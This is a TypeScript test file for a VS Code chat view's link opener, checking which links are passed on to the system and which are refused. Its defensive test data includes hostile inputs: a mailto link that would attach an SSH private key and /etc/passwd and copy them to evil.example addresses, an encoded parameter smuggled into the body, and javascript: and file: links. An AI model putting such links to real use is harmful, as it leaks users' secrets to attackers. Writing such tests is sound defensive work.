// The host's side of a link click in the chat view: what reaches vscode.env.openExternal, whatever the view sent.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { openChatLink } from '../../../../src/vscode/chat/chatLinkOpener';

async function open(href: string): Promise<{ opened: string[]; refused: string[] }> {
  const opened: string[] = [];
  const refused: string[] = [];
  await openChatLink(href, {
    openExternal: (url) => {
      opened.push(url);
      return Promise.resolve(true);
    },
    refuse: (url) => refused.push(url),
  });
  return { opened, refused };
}

/** The fields the mail program receives: VS Code's openExternal decodes the query before handing the link on. */
function receivedFields(href: string): string[] {
  return decodeURIComponent(new URL(href).search.slice(1))
    .split('&')
    .map((field) => field.split('=')[0] ?? '');
}

describe('opening a link from the chat view', () => {
  it('opens a mailto link with its recipients, subject, body and cc only', async () => {
    const { opened, refused } = await open(
      'mailto:team@example.com?subject=Report&attach=%2Fhome%2Fuser%2F.ssh%2Fid_rsa&bcc=spy@evil.example&cc=lead@example.com&to=more@evil.example&body=Hi%26attach%3D%2Fetc%2Fpasswd',
    );
    assert.deepEqual(refused, []);
    assert.deepEqual(opened, ['mailto:team@example.com?subject=Report&cc=lead@example.com&body=Hi']);
    assert.deepEqual(receivedFields(opened[0] ?? ''), ['subject', 'cc', 'body']);
  });

  it('opens a web link and refuses any other scheme, opening nothing', async () => {
    assert.deepEqual((await open('https://example.com/a')).opened, ['https://example.com/a']);
    for (const href of ['javascript:alert(1)', 'file:///etc/passwd', 'vscode:extension/x.y', 'https://user@evil.example/']) {
      const { opened, refused } = await open(href);
      assert.deepEqual([opened, refused], [[], [href]], href);
    }
  });
});
